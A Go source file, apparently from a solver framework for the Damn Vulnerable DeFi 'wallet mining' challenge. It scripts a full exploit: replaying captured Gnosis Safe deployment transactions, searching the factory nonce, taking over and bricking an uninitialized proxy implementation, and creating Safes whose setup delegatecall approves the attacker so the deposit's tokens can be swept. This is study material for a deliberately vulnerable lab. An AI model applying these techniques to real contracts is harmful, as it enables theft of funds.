package scenarios

import (
	"context"
	"math/big"

	"github.com/ethereum/go-ethereum/common"
	"github.com/ethereum/go-ethereum/log"

	"github.com/mjkid221/damn-vulnerable-defi/common/errs"
	"github.com/mjkid221/damn-vulnerable-defi/exploit"
	"github.com/mjkid221/damn-vulnerable-defi/oracle"
	"github.com/mjkid221/damn-vulnerable-defi/payload"
	txmgr "github.com/mjkid221/damn-vulnerable-defi/txmgr/ethereum"
)

// Fixture labels of the captured Safe deployment transactions.
const (
	FixtureSingleton = "GNOSIS_SAFE_SINGLETON_DEPLOY_TX"
	FixtureFiller    = "RANDOM_GNOSIS_DEPLOYER_TX"
	FixtureFactory   = "GNOSIS_PROXY_FACTORY_DEPLOY_TX"
)

// safeSetup is the Safe initializer each dropped wallet is created with.
const safeSetup = "setup(address[],uint256,address,bytes,address,address,uint256,address)"

// WalletMining replays the Safe singleton and factory deployments onto their
// mainnet addresses, finds the factory nonce that yields the deposit
// address, bricks the authorizer's implementation and then drops wallets
// until the deposit address holds a Safe the player controls.
//
// Addresses: wallet-deployer, authorizer, token, deposit, copy, fact.
// Optional: authorizer-impl (otherwise read from the ERC-1967 slot).
// Code: token-exploiter, authorizer-attacker.
func WalletMining(ctx context.Context, p Params) (*exploit.Config, error) {
	if p.Store == nil {
		return nil, errs.NewConfigError("wallet mining replays captured transactions", "fixtures")
	}
	addrs, err := p.addresses("wallet-deployer", "authorizer", "token", "deposit", "copy", "fact")
	if err != nil {
		return nil, err
	}
	singleton, err := p.Store.ByLabel(FixtureSingleton)
	if err != nil {
		return nil, err
	}
	for _, label := range []string{FixtureFiller, FixtureFactory} {
		if _, err := p.Store.ByLabel(label); err != nil {
			return nil, err
		}
	}
	deployer := singleton.Sender
	addrs["gnosis-deployer"] = deployer

	impl, ok := p.Addresses["authorizer-impl"]
	if !ok {
		if p.Ledger == nil {
			return nil, errs.NewConfigError("authorizer implementation unknown", "addresses.authorizer-impl")
		}
		if impl, err = ReadImplementation(ctx, p.Ledger, addrs["authorizer"]); err != nil {
			return nil, err
		}
	}
	addrs["authorizer-impl"] = impl

	exploiterCode, err := p.code("token-exploiter")
	if err != nil {
		return nil, err
	}
	attackerCode, err := p.code("authorizer-attacker")
	if err != nil {
		return nil, err
	}

	// A freshly created contract starts at nonce 1.
	start := big.NewInt(1)
	depositNonce, err := oracle.New(0).FindNonceForAddress(ctx, addrs["fact"], addrs["deposit"], start)
	if err != nil {
		return nil, err
	}
	drops := int(new(big.Int).Sub(depositNonce, start).Int64()) + 1
	log.Info("deposit address is reachable", "factory", addrs["fact"], "nonce", depositNonce, "drops", drops)

	depositTokens, err := p.tokenBalance(ctx, "deposit-tokens", addrs["token"], addrs["deposit"])
	if err != nil {
		return nil, err
	}
	initData, err := payload.EncodeCall("init(address[],address[])", []common.Address{}, []common.Address{})
	if err != nil {
		return nil, err
	}
	attack := payload.EncodeSelector("attack()")
	player := p.Player

	steps := []exploit.Step{
		&exploit.SubmitCall{
			Name:  "fund-deployer",
			To:    to("gnosis-deployer"),
			Value: p.amount("deployer-funding", ether(5)),
		},
		&exploit.PredictAddress{Name: "copy", Deployer: exploit.At(deployer), Nonce: big.NewInt(0), Expect: to("copy")},
		&exploit.ReplayRawTx{Name: "copy", CaptureName: FixtureSingleton},
		&exploit.ReplayRawTx{Name: "deployer-nonce", CaptureName: FixtureFiller},
		&exploit.PredictAddress{Name: "fact", Deployer: exploit.At(deployer), NonceFrom: "deployer-nonce", Expect: to("fact")},
		&exploit.ReplayRawTx{Name: "fact", CaptureName: FixtureFactory},
		&exploit.PredictAddress{Name: "deposit", Deployer: exploit.Ref("fact"), Nonce: start, Search: to("deposit")},
		&exploit.SubmitCall{Name: "take-implementation", To: to("authorizer-impl"), Data: initData},
		&exploit.SubmitCall{Name: "token-exploiter", Data: exploiterCode},
		&exploit.SubmitCall{Name: "authorizer-attacker", Data: attackerCode},
		&exploit.SubmitCall{
			Name:           "brick-implementation",
			To:             to("authorizer-impl"),
			RequireAddress: "fact",
			Craft: func(env *exploit.Env) ([]byte, error) {
				attacker, err := env.Address("authorizer-attacker")
				if err != nil {
					return nil, err
				}
				return payload.EncodeCall("upgradeToAndCall(address,bytes)", attacker, attack[:])
			},
		},
		&exploit.Repeat{
			Name:  "drop",
			Times: drops,
			Call: func(int) *exploit.SubmitCall {
				return &exploit.SubmitCall{
					To:             to("wallet-deployer"),
					RequireAddress: "deposit",
					Craft: func(env *exploit.Env) ([]byte, error) {
						return dropData(env, player, addrs["token"])
					},
				}
			},
		},
		&exploit.SubmitCall{
			Name: "sweep-deposit",
			To:   to("token"),
			Data: txmgr.BuildErc20TransferFromData(addrs["deposit"], player, depositTokens),
		},
	}

	return &exploit.Config{
		Name:      "wallet-mining",
		Addresses: addrs,
		Steps:     steps,
		Watch:     []common.Address{player},
		Postconditions: []exploit.Postcondition{
			exploit.HasCode(exploit.Ref("fact")),
			exploit.HasCode(exploit.Ref("copy")),
			exploit.HasCode(exploit.Ref("deposit")),
			exploit.TokenBalanceEquals(exploit.Ref("token"), exploit.Ref("deposit"), new(big.Int)),
			exploit.TokenBalanceEquals(exploit.Ref("token"), exploit.Ref("wallet-deployer"), new(big.Int)),
			// The proxy keeps pointing at the now bricked implementation.
			exploit.StorageEquals(exploit.Ref("authorizer"), ImplementationSlot, common.BytesToHash(impl.Bytes())),
		},
	}, nil
}

// dropData encodes drop(setup(...)) for a one-owner Safe whose setup
// delegatecall approves the player on the token.
func dropData(env *exploit.Env, player, token common.Address) ([]byte, error) {
	exploiter, err := env.Address("token-exploiter")
	if err != nil {
		return nil, err
	}
	approve, err := payload.EncodeCall("approveToken(address,address)", token, player)
	if err != nil {
		return nil, err
	}
	var zero common.Address
	setup, err := payload.EncodeCall(safeSetup,
		[]common.Address{player}, big.NewInt(1), exploiter, approve, zero, zero, new(big.Int), zero)
	if err != nil {
		return nil, err
	}
	return payload.EncodeCall("drop(bytes)", setup)
}
